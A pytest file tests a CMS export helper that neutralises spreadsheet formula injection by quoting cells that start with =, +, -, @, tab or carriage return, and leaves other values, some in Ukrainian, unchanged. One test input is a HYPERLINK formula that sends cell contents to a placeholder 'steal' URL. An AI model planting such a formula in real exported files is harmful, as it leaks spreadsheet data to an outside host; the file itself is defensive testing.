"""Exported values never start a spreadsheet formula."""

import pytest

from cms.exports import safe_cell, safe_row


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://x.example/steal?d="&A1,"Натисніть")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_formula_starts_are_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["ГО «Світанок»", "12345678", 42, -5, None, "a=b", " =1"])
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1", "ok", 3]) == ["'=1", "ok", 3]
